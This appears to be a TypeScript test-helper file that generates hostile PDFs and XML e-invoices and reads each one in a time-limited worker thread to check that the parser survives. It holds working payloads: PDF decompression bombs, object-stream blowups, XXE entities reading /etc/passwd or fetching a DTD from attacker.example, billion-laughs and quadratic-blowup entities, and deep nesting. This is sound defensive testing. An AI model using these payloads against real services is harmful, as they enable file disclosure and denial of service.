// Hostile received files, made on the fly (nothing large is committed): PDFs built to make a
// reader loop or unpack gigabytes, XML with entities, deep nesting, huge values. And a runner that
// reads one in a worker thread, with a deadline, so that a reader that hangs fails the test
// instead of blocking it (a synchronous endless loop cannot be interrupted any other way).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import { deflateSync } from 'node:zlib';
import { buildSync } from 'esbuild';
import { einvoiceDir } from './einvoiceValidation';

const ROOT = join(__dirname, '../..');
const EXAMPLES = einvoiceDir();
export const UBL_EXAMPLE = readFileSync(join(EXAMPLES, 'examples/ubl/guide-example2.xml'), 'utf8');
export const CII_EXAMPLE = readFileSync(join(EXAMPLES, 'examples/cii/CII_example1.xml'), 'utf8');

// ---------- PDFs ----------

type Obj = { num: number; dict: string; stream?: Buffer };

/** A PDF of these objects with an xref table and a trailer naming object 1 the catalog. */
export function pdfOf(objects: Obj[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let size = parts[0].length;
  const offsets: [number, number][] = [];
  const add = (b: Buffer | string) => {
    const buf = typeof b === 'string' ? Buffer.from(b, 'latin1') : b;
    parts.push(buf);
    size += buf.length;
  };
  for (const o of objects) {
    offsets.push([o.num, size]);
    add(`${o.num} 0 obj\n${o.dict}\n`);
    if (o.stream) {
      add('stream\n');
      add(o.stream);
      add('\nendstream\n');
    }
    add('endobj\n');
  }
  const xref = size;
  const max = Math.max(0, ...offsets.map(([n]) => n));
  const rows = Array.from({ length: max + 1 }, () => '0000000000 65535 f \n');
  for (const [n, at] of offsets) rows[n] = `${String(at).padStart(10, '0')} 00000 n \n`;
  add(`xref\n0 ${max + 1}\n${rows.join('')}trailer\n<< /Size ${max + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** Catalog, pages and a name tree listing the file specifications `files` (object numbers). */
function catalog(names: [string, number][]): Obj[] {
  return [
    { num: 1, dict: `<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [${names.map(([n, num]) => `(${n}) ${num} 0 R`).join(' ')}] >> >> >>` },
    { num: 2, dict: '<< /Type /Pages /Kids [] /Count 0 >>' },
  ];
}

/** An embedded file stream (object `num`) and its file specification (`num + 1`). */
function attachment(num: number, name: string, data: Buffer, extra = '/Filter /FlateDecode'): Obj[] {
  return [
    { num, dict: `<< /Type /EmbeddedFile /Subtype /text#2Fxml ${extra} /Length ${data.length} >>`, stream: data },
    { num: num + 1, dict: `<< /Type /Filespec /F (${name}) /UF (${name}) /AFRelationship /Alternative /EF << /F ${num} 0 R >> >>` },
  ];
}

/** A Factur-X style PDF: `xml` as factur-x.xml, compressed, with `decodeParms` when given (the predictor is not applied: only its parameters matter). */
export function hybridPdf(xml: string | Buffer, decodeParms?: string): Buffer {
  const data = deflateSync(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml);
  const extra = `/Filter /FlateDecode${decodeParms ? ` /DecodeParms << ${decodeParms} >>` : ''}`;
  return pdfOf([...catalog([['factur-x.xml', 11]]), ...attachment(10, 'factur-x.xml', data, extra)]);
}

/** An object stream (object `num`) whose `count` members (numbers from `firstNum`) all lie at `offset(i)` in `body`. */
function objectStream(num: number, count: number, firstNum: number, offset: (i: number) => number, body: string): Obj {
  const index = Array.from({ length: count }, (_, i) => `${firstNum + i} ${offset(i)}`).join(' ') + '\n';
  const data = deflateSync(Buffer.from(index + body, 'latin1'), { level: 9 });
  return { num, dict: `<< /Type /ObjStm /N ${count} /First ${index.length} /Filter /FlateDecode /Length ${data.length} >>`, stream: data };
}

const FOUR_MB_STRING = `(${'a'.repeat(4 << 20)})`;

/** One object stream of 25 KB: 8,000 members all pointing at one 4 MB string. */
export function objectStreamAtOneString(): Buffer {
  return pdfOf([...catalog([]), objectStream(3, 8000, 100, () => 0, FOUR_MB_STRING)]);
}

/** The same, but each member points one character further into the string: no two members alike. */
export function objectStreamIntoOneString(): Buffer {
  return pdfOf([...catalog([]), objectStream(3, 8000, 100, (i) => i, FOUR_MB_STRING)]);
}

/** About 340 KB: 150,000 members at one 16 MB string. */
export function objectStreamBig(): Buffer {
  return pdfOf([...catalog([]), objectStream(3, 150_000, 100, () => 0, `(${'a'.repeat(16 << 20)})`)]);
}

/** One object stream claiming 3 million members (an index of "5 0" repeated: 12 KB compressed). */
export function objectStreamMillions(): Buffer {
  const n = 3_000_000;
  const index = '5 0 '.repeat(n);
  const data = deflateSync(Buffer.from(`${index}\nnull`, 'latin1'), { level: 9 });
  return pdfOf([...catalog([]), { num: 3, dict: `<< /Type /ObjStm /N ${n} /First ${index.length + 1} /Filter /FlateDecode /Length ${data.length} >>`, stream: data }]);
}

/** One object stream member: an array of 7 million names (21 MB unpacked, 20 KB in the file). */
export function objectStreamOfNames(): Buffer {
  return pdfOf([...catalog([]), objectStream(3, 1, 100, () => 0, `[${'/a '.repeat(7_000_000)}]`)]);
}

/** 100,000 objects each opening a string that never closes: every one scans to the end of the file. */
export function unterminatedStrings(): Buffer {
  return Buffer.from(`%PDF-1.7\n${Array.from({ length: 100_000 }, (_, i) => `${i + 1} 0 obj (`).join('\n')}\n%%EOF\n`, 'latin1');
}

/** 30,000 streams whose /Length names object 5, which is defined 30,000 times. */
export function sharedIndirectLengths(): Buffer {
  const objects: Obj[] = [...catalog([])];
  for (let i = 0; i < 30_000; i++) objects.push({ num: 5, dict: '0' }, { num: 10 + i, dict: '<< /Length 5 0 R >>', stream: Buffer.alloc(0) });
  return pdfOf(objects);
}

/** Two million "0 0 obj" headers and nothing else (16 MB). */
export function headersOnly(): Buffer {
  return Buffer.from(`%PDF-1.7\n${'0 0 obj '.repeat(2_000_000)}\n%%EOF\n`, 'latin1');
}

/** An object nested 100,000 arrays deep. */
export function deepArrays(): Buffer {
  return pdfOf([...catalog([]), { num: 3, dict: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }]);
}

/** factur-x.xml unpacking to 64 MB and one byte (65 KB in the file). */
export function flateBomb(): Buffer {
  return hybridPdf(Buffer.alloc((64 << 20) + 1, 0x20));
}

/** Eight XML attachments of 60 MB each (none named factur-x.xml: the search unpacks every one). */
export function flateBombs(): Buffer {
  const data = deflateSync(Buffer.alloc(60 << 20, 0x20), { level: 9 });
  const objects: Obj[] = [];
  const names: [string, number][] = [];
  for (let k = 0; k < 8; k++) {
    objects.push(...attachment(10 + 2 * k, `part${k + 1}.xml`, data));
    names.push([`part${k + 1}.xml`, 11 + 2 * k]);
  }
  return pdfOf([...catalog(names), ...objects]);
}

/** An XML attachment of "<!--" 50,000 times: finding its root element must not backtrack. */
export function commentsAttachment(): Buffer {
  return pdfOf([...catalog([['notes.xml', 11]]), ...attachment(10, 'notes.xml', deflateSync(Buffer.from('<!--'.repeat(50_000))))]);
}

/** A hybrid PDF with an /Encrypt dictionary in its trailer. */
export function encryptedPdf(): Buffer {
  return pdfOf([...catalog([]), { num: 3, dict: '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>' }], '/Encrypt 3 0 R /ID [<01> <01>] ');
}

// ---------- XML ----------

const UBL_NS = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';

/** The official UBL example with `doctype` before its root element. */
export const withDoctype = (doctype: string, body = UBL_EXAMPLE) => body.replace(/^<\?xml[^>]*\?>/, (decl) => `${decl}\n${doctype}`);

export const xxeSystem = () => withDoctype('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('<cbc:ID>TOSL108</cbc:ID>', '<cbc:ID>&xxe;</cbc:ID>');
export const xxeParameter = () => withDoctype('<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>');

/** "Billion laughs": ten levels of ten references, 3 GB when expanded. */
export function billionLaughs(): string {
  let d = '<!ENTITY lol0 "lollollollollollollollollollol">';
  for (let i = 1; i < 10; i++) d += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return withDoctype(`<!DOCTYPE Invoice [${d}]>`).replace('<cbc:Note>', '<cbc:Note>&lol9;');
}

/** One 10,000-character entity used 200,000 times (2 GB), the variant that passes entity depth limits. */
export const quadraticBlowup = () => withDoctype(`<!DOCTYPE Invoice [<!ENTITY a "${'x'.repeat(10_000)}">]>`).replace('<cbc:Note>', `<cbc:Note>${'&a;'.repeat(200_000)}`);

export const deepNesting = (depth = 100_000) => `<Invoice xmlns="${UBL_NS}">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</Invoice>`;
export const deepUnclosed = (depth = 100_000) => `<Invoice xmlns="${UBL_NS}">${'<a>'.repeat(depth)}`;

/** The official UBL example with `digits` nines as its amount due for payment (BT-115). */
export const hugeAmount = (digits = 100_000) => UBL_EXAMPLE.replace(/(<cbc:PayableAmount[^>]*>)[^<]+/, (_m, tag: string) => `${tag}${'9'.repeat(digits)}.00`);
export const longFraction = (decimals = 100_000) => UBL_EXAMPLE.replace(/(<cbc:PayableAmount[^>]*>)([^<]+)/, (_m, tag: string, v: string) => `${tag}${v}${'0'.repeat(decimals)}`);

/** The official UBL example with a first item name of `length` characters. */
export const hugeName = (length = 40_000) => UBL_EXAMPLE.replace('<cbc:Name>Laptop computer</cbc:Name>', `<cbc:Name>${'Laptop '.repeat(length / 7 + 1).slice(0, length)}</cbc:Name>`);

/** 40 MB: an invoice note of that size. */
export const hugeXml = () => UBL_EXAMPLE.replace('<cbc:Note>', `<cbc:Note>${'x'.repeat(40 << 20)}`);
/** 1.2 million empty elements (5 MB). */
export const manyTags = () => UBL_EXAMPLE.replace('<cbc:Note>', `${'<cbc:Note/>'.repeat(1_200_000)}<cbc:Note>`);
/** 1.2 million "&amp;" in a note. */
export const manyReferences = () => UBL_EXAMPLE.replace('<cbc:Note>', `<cbc:Note>${'&amp;'.repeat(1_200_000)}`);

// ---------- reading in a worker ----------

export interface Outcome {
  /** The error's class and message, or undefined when the file was read. */
  error?: string;
  /** What was read: the invoice number and the first line's name. */
  read?: { number: string; firstLineName: string };
  ms: number;
  /** Heap and ArrayBuffer memory the reading added (MB), measured in the worker. */
  heapMb: number;
  arrayBuffersMb: number;
}

let bundle: string | undefined;

/** The reader (src, as it is now) bundled for a worker, which reads one file per message. */
function workerCode(): string {
  bundle ??= buildSync({
    stdin: {
      contents: "export { eInvoiceFromPdf } from './src/core/einvoice/fromPdf'; export { parseEInvoice } from './src/core/einvoice/receive';",
      resolveDir: ROOT,
      loader: 'ts',
    },
    bundle: true,
    platform: 'node',
    format: 'iife',
    globalName: 'reader',
    write: false,
    logLevel: 'warning',
  }).outputFiles[0].text;
  return `${bundle};
const { parentPort } = require('node:worker_threads');
parentPort.once('message', ({ kind, data }) => {
  const before = process.memoryUsage();
  const start = process.hrtime.bigint();
  let error, read;
  try {
    const xml = kind === 'pdf' ? reader.eInvoiceFromPdf(data).xml : data;
    const r = reader.parseEInvoice(xml);
    read = { number: r.number, firstLineName: r.lines[0] ? r.lines[0].name : '' };
  } catch (e) {
    error = e.name + ': ' + e.message;
  }
  const ms = Number(process.hrtime.bigint() - start) / 1e6;
  const after = process.memoryUsage();
  parentPort.postMessage({ error, read, ms, heapMb: (after.heapUsed - before.heapUsed) / 2 ** 20, arrayBuffersMb: (after.arrayBuffers - before.arrayBuffers) / 2 ** 20 });
});`;
}

/**
 * Reads a PDF (its e-invoice, then the XML) or an XML text in a fresh worker thread; a worker
 * still busy after `deadlineMs` is stopped and reported as a hang.
 */
export function readHostile(kind: 'pdf' | 'xml', data: Uint8Array | string, deadlineMs = 30_000): Promise<Outcome> {
  return new Promise((done, fail) => {
    const worker = new Worker(workerCode(), { eval: true, resourceLimits: { maxOldGenerationSizeMb: 2048 } });
    const timer = setTimeout(() => {
      void worker.terminate();
      done({ error: `hang: still reading after ${deadlineMs / 1000} s (stopped)`, ms: deadlineMs, heapMb: NaN, arrayBuffersMb: NaN });
    }, deadlineMs);
    worker.once('message', (m: Outcome) => {
      clearTimeout(timer);
      void worker.terminate();
      done(m);
    });
    worker.once('error', (e) => {
      clearTimeout(timer);
      fail(e);
    });
    worker.postMessage({ kind, data });
  });
}
